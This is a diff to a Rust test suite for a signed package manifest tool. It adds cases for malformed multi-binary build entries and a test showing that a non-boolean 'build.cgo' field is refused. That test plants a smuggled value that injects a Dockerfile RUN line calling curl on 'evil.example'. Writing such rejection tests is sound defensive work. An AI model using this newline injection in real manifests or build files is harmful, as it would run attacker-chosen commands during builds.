@@ -45,6 +45,14 @@ fn edits() -> Vec<(&'static str, Edit)> {
             Box::new(|m| m["build"]["main"] = json!("../outside")),
         ),
         (
+            "build.mains[1].binary",
+            Box::new(|m| several(m, &[(".", "hello"), ("./cmd/hello", "hello")])),
+        ),
+        (
+            "build.mains[1].package",
+            Box::new(|m| several(m, &[(".", "hello"), ("../tool", "tool")])),
+        ),
+        (
             "build.tags[0]",
             Box::new(|m| m["build"]["tags"] = json!(["a b"])),
         ),
@@ -62,6 +70,18 @@ fn edits() -> Vec<(&'static str, Edit)> {
         ),
         ("src/main.go", Box::new(|m| add_entry(m, "src/main.go/x"))),
     ]
+}
+
+/// `build` in the form of several binaries.
+fn several(m: &mut Value, mains: &[(&str, &str)]) {
+    let build = m["build"].as_object_mut().unwrap();
+    build.remove("main");
+    build.remove("binary");
+    let list: Vec<Value> = mains
+        .iter()
+        .map(|(package, binary)| json!({"package": package, "binary": binary}))
+        .collect();
+    build.insert("mains".into(), json!(list));
 }
 
 fn image(reference: &str) -> Value {
@@ -99,6 +119,28 @@ fn a_re_signed_manifest_with_a_field_against_its_rules_is_refused_before_anythin
         assert_says(&out, &[field, "nothing was written"]);
         assert_eq!(sb.listing(), before, "{field}: something was left behind");
     }
+}
+
+/// `build.cgo` reaches the Dockerfile's ENV line: anything but a JSON
+/// boolean leaves the manifest unreadable, naming the field.
+#[test]
+fn a_cgo_field_that_is_not_a_boolean_is_refused() {
+    let sb = Sandbox::new();
+    let good = fs::read(sb.pack("hello", "good.ferry")).unwrap();
+    let bad = resign(&sb, &good, |m| {
+        m["build"]["cgo"] = json!("1\nRUN curl evil.example")
+    });
+    fs::write(sb.path("bad.ferry"), bad).unwrap();
+    let before = sb.listing();
+    for args in [
+        &["verify", "bad.ferry", "--pub", "rel.pub"][..],
+        &["unpack", "bad.ferry", "--pub", "rel.pub", "-C", "dest"],
+    ] {
+        let out = sb.run(args);
+        assert_exit(&out, 1);
+        assert_says(&out, &["manifest field build.cgo", "true or false"]);
+    }
+    assert_eq!(sb.listing(), before);
 }
 
 #[test]
